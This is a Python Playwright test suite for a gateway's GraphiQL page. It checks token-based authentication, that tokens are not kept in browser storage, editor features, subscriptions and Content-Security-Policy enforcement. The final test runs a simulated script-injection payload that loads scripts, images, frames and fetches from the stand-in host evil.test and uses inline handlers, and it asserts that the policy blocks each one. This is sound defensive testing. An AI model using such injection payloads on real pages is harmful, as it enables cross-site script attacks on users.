"""GraphiQL in a real browser: offline, under its policy, from the first look to an answer."""

import asyncio
import json
from contextlib import suppress

import pytest
from playwright.async_api import Page, expect

from gateway.web.app import create_app
from gateway.web.assembly import assemble
from gateway.web.graphiql import ExampleTab
from gateway.web.tokens import mint
from tests.web.serving import SCHEMA, Context

pytestmark = pytest.mark.xdist_group("browser")

WHO = "query Who {\n  viewer {\n    isAdmin\n    customer {\n      externalId\n    }\n  }\n}"


def tidy(text: str) -> str:
    """What an editor shows, which sets spaces as ones that do not break."""
    return " ".join(text.replace("\u00a0", " ").split())


async def replace(page: Page, editor: str, text: str) -> None:
    await page.locator(f"{editor} .monaco-editor:visible").first.click()
    await page.keyboard.press("Control+A")
    await page.evaluate("(text) => navigator.clipboard.writeText(text)", text)
    await page.keyboard.press("Control+V")


async def run(page: Page) -> None:
    await page.click(".graphiql-execute-button")


async def answer_with(page: Page, text: str) -> str:
    """The answer, once it holds the text."""
    answer = page.locator(".graphiql-response .view-lines")
    await expect(answer).to_contain_text(text)
    return tidy(await answer.inner_text())


async def open_tab(page: Page, name: str, *, holding: str) -> None:
    await page.click(f".graphiql-tab-button:text-is('{name}')")
    await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text(holding)


async def run_until(page: Page, text: str) -> None:
    """Runs until the answer holds the text: a moment after a tab opens, GraphiQL still sends the operation name of the last one."""
    for _ in range(10):
        await run(page)
        with suppress(AssertionError):
            await expect(page.locator(".graphiql-response .view-lines")).to_contain_text(text, timeout=2_000)
            return
    await answer_with(page, text)


async def kept_by(page: Page) -> str:
    """All that the browser keeps for the page beyond this visit."""
    return await page.evaluate("JSON.stringify(localStorage)")


async def until_kept(page: Page, key: str, text: str) -> None:
    """Returns when the browser keeps the text under the key: GraphiQL waits a little before it stores anything."""
    async with asyncio.timeout(20):
        while text not in (await page.evaluate("(key) => localStorage.getItem(key)", key) or ""):  # noqa: ASYNC110
            await asyncio.sleep(0.05)


async def test_a_person_sends_a_token_and_a_query_and_sees_the_answer(visiting, runtime):
    token = mint(runtime.settings.token_secret, customer_external_id="acme")

    async with visiting(create_app(runtime)) as visit:
        page = visit.page
        await page.goto(f"{visit.url}/")
        await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text("WhoAmI")
        await run(page)
        refused = await answer_with(page, "NOT_AUTHENTICATED")
        await replace(page, ".graphiql-editor-tool", json.dumps({"Authorization": f"Bearer {token}"}))
        await replace(page, ".graphiql-query-editor", WHO)
        await expect(page.locator(".graphiql-tab-button")).to_have_text("Who")
        await run(page)
        answered = await answer_with(page, "acme")
        kept = await kept_by(page)

        assert '"code": "NOT_AUTHENTICATED"' in refused
        assert answered == '{ "data": { "viewer": { "isAdmin": false, "customer": { "externalId": "acme" } } } }'
        assert token not in kept
        assert await visit.violations() == []
        assert visit.foreign_requests() == []
        assert visit.complaints == []


async def test_the_editor_knows_the_schema_and_the_documentation_opens(visiting, runtime):
    async with visiting(create_app(runtime)) as visit:
        page = visit.page
        await page.goto(f"{visit.url}/graphql")
        await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text("WhoAmI")
        await page.click("[aria-label='Show Documentation Explorer']")
        await expect(page.locator(".graphiql-doc-explorer")).to_contain_text("DataSourceInstance")
        await replace(page, ".graphiql-query-editor", "{ viewer { ")
        await page.keyboard.press("Control+Space")
        await expect(page.locator(".suggest-widget")).to_contain_text("isAdmin")
        await page.keyboard.press("Escape")
        await replace(page, ".graphiql-query-editor", "{viewer{nothing}}")
        await expect(page.locator(".graphiql-query-editor .squiggly-error")).not_to_have_count(0)
        await replace(page, ".graphiql-query-editor", "# Mine\n{viewer{isAdmin}}")
        await page.click("[aria-label^='Prettify query']")
        await expect(page.locator(".graphiql-query-editor .view-line")).to_have_count(7)

        assert tidy(await page.locator(".graphiql-query-editor .view-lines").inner_text()) == "# Mine { viewer { isAdmin } }"
        assert any(address.endswith("/graphql.worker.js") for address in visit.requests)
        assert await visit.violations() == []
        assert visit.foreign_requests() == []
        assert visit.complaints == []


async def test_examples_open_as_tabs_with_tokens_that_are_there_again_after_a_reload(visiting, runtime):
    customer, admin = (mint(runtime.settings.token_secret, **who) for who in ({"customer_external_id": "acme"}, {"is_admin": True}))
    admins = "query Admin($is: Boolean!) { viewer { isAdmin @include(if: $is) } }"
    tabs = [
        ExampleTab(title="Who am I?", query=WHO, headers={"Authorization": f"Bearer {customer}"}),
        ExampleTab(title="</script>", query=admins, variables={"is": True}, headers={"Authorization": f"Bearer {admin}"}),
    ]

    async with visiting(create_app(runtime, tabs=tabs)) as visit:
        page = visit.page
        await page.goto(f"{visit.url}/graphql")
        await expect(page.locator(".graphiql-tab-button")).to_have_text(["Who", "Admin"])
        for _ in range(2):
            await open_tab(page, "Who", holding="customer")
            await run_until(page, '"externalId": "acme"')
            await open_tab(page, "Admin", holding="include")
            await run_until(page, '"isAdmin": true')
            await until_kept(page, "graphiql:tabState", '"activeTabIndex":1')
            await page.reload()
        await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text("include")
        await run_until(page, '"isAdmin": true')
        kept = await kept_by(page)

        await expect(page.locator(".graphiql-tab-button")).to_have_text(["Who", "Admin"])
        assert customer not in kept
        assert admin not in kept
        assert await visit.violations() == []


async def test_headers_are_kept_for_those_who_ask_and_forgotten_when_they_ask_no_more(visiting, runtime):
    async def persist(choice: str) -> None:
        await page.click("[aria-label='Open settings dialog']")
        await page.locator(".graphiql-dialog-section", has_text="Persist headers").get_by_role("button", name=choice).click()
        await page.keyboard.press("Escape")

    async with visiting(create_app(runtime)) as visit:
        page = visit.page
        await page.goto(f"{visit.url}/graphql")
        await expect(page.locator(".graphiql-query-editor .view-lines")).to_contain_text("WhoAmI")
        await persist("On")
        await replace(page, ".graphiql-editor-tool", '{"X-Mine": "a secret"}')
        await run(page)
        await answer_with(page, "NOT_AUTHENTICATED")
        await until_kept(page, "graphiql:tabState", "X-Mine")
        await page.reload()
        await expect(page.locator(".graphiql-editor-tool .view-lines:visible")).to_contain_text("X-Mine")
        kept = await kept_by(page)
        await persist("Off")
        forgotten = await kept_by(page)

        assert "a secret" in kept
        assert "a secret" not in forgotten
        assert visit.complaints == []


async def test_a_subscription_streams_into_the_page(visiting, runtime):
    tabs = [ExampleTab(title="Count", query="subscription Count { count(to: 3) }")]

    async with visiting(assemble(runtime, SCHEMA, make_context=Context, tabs=tabs)) as visit:
        await visit.page.goto(f"{visit.url}/graphql")
        await expect(visit.page.locator(".graphiql-query-editor .view-lines")).to_contain_text("Count")
        await run(visit.page)

        assert await answer_with(visit.page, "3") == '{ "data": { "count": 3 } }'
        assert await visit.violations() == []
        assert visit.complaints == []


ATTACKS = """async () => {
    const put = (attributes) => document.head.append(Object.assign(document.createElement("script"), attributes));
    put({ textContent: "window.hit = 1" });
    put({ src: "data:text/javascript,window.hit = 2" });
    put({ src: "https://evil.test/3.js" });
    document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.test/4"><button onclick="window.hit = 5"></button>');
    document.body.lastElementChild.click();
    document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/6" }));
    await fetch("https://evil.test/7").catch(() => {});
    await new Promise((done) => setTimeout(done, 200));
    return window.hit ?? null;
}"""


async def test_the_policy_stops_whatever_an_injection_would_try(visiting, runtime):
    async with visiting(create_app(runtime)) as visit:
        await visit.page.goto(f"{visit.url}/graphql")
        await expect(visit.page.locator(".graphiql-query-editor .view-lines")).to_contain_text("WhoAmI")

        hit = await visit.page.evaluate(ATTACKS)

        assert hit is None
        assert sorted(await visit.violations()) == [
            "connect-src https://evil.test/7",
            "frame-src https://evil.test",
            "img-src https://evil.test/4",
            "script-src-attr inline",
            "script-src-elem data",
            "script-src-elem https://evil.test/3.js",
            "script-src-elem inline",
        ]
